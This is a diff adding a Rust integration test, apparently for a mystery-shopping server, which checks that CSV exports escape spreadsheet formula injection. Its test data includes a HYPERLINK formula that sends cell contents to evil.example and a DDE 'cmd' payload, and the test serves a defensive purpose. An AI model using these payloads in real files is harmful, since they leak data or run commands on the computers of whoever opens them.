@@ -219,3 +219,88 @@ async fn evaluations_and_scores_export_as_csv_one_row_each_one_column_per_questi
         "every company of the 20 classes"
     );
 }
+
+#[tokio::test]
+async fn names_notes_and_answers_a_spreadsheet_would_run_are_exported_as_text() {
+    let server = TestServer::start().await;
+    let company = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")";
+    let class = "+Bank";
+    let shopper = "@Mallory";
+    let notes = "-2+3 ventet";
+    let best = "\tcmd|' /C calc'!A0";
+    let csv = format!(
+        "class,company\n\"{class}\",\"{}\"\n",
+        company.replace('"', "\"\"")
+    );
+    let (status, body) = post_text(&server, "/api/v1/organizer/companies/import", &csv).await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+    let created: Value = server
+        .http
+        .post(server.url("/api/v1/organizer/shoppers"))
+        .bearer_auth(ORGANIZER_TOKEN)
+        .json(&json!({ "name": shopper }))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let shopper_id = created["id"].as_str().unwrap().to_owned();
+    let response = server
+        .http
+        .post(server.url("/api/v1/organizer/assignments"))
+        .bearer_auth(ORGANIZER_TOKEN)
+        .json(&json!({
+            "company": company, "channel": "phone", "scenario": "=1+1", "shopper": shopper_id,
+            "contact": "tel:+4700000000", "window_start": "2026-01-05", "window_end": "2026-12-18",
+            "due": "2026-12-18"
+        }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let token = server.sign_in(&shopper_id).await;
+    let assignment = first_assignment(&server, &token).await;
+    let mut answers = valid_answers();
+    answers["beste"] = json!(best);
+    let mut body = submission(&assignment, 1, answers);
+    body["content"]["notes"] = json!(notes);
+    let id = uuid::Uuid::new_v4();
+    let (status, pushed) = server.push(Some(&token), id, &body).await;
+    assert_eq!(status, StatusCode::CREATED, "{pushed}");
+    review(&server, id, json!({ "revision": 1, "decision": "approve" })).await;
+
+    let (_, text) = get_text(&server, "/api/v1/organizer/export/evaluations.csv").await;
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
+    let (_, scores) = get_text(&server, "/api/v1/organizer/export/scores.csv").await;
+    let mut reader = csv::Reader::from_reader(scores.as_bytes());
+    let score_row = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| &r[0] == "'+Bank")
+        .expect("the class is written as text");
+    for (written, original) in [
+        (cell("company"), company),
+        (cell("class"), class),
+        (cell("shopper"), shopper),
+        (cell("notes"), notes),
+        (cell("beste"), best),
+        (score_row[0].to_owned(), class),
+        (score_row[3].to_owned(), company),
+    ] {
+        assert_eq!(
+            written,
+            format!("'{original}"),
+            "a spreadsheet shows it as text"
+        );
+        assert_eq!(
+            shopper_server::campaign::original_cell(&written),
+            original,
+            "and it reads back as written"
+        );
+    }
+    assert_eq!(cell("ventetid"), "25", "numbers stay numbers");
+}
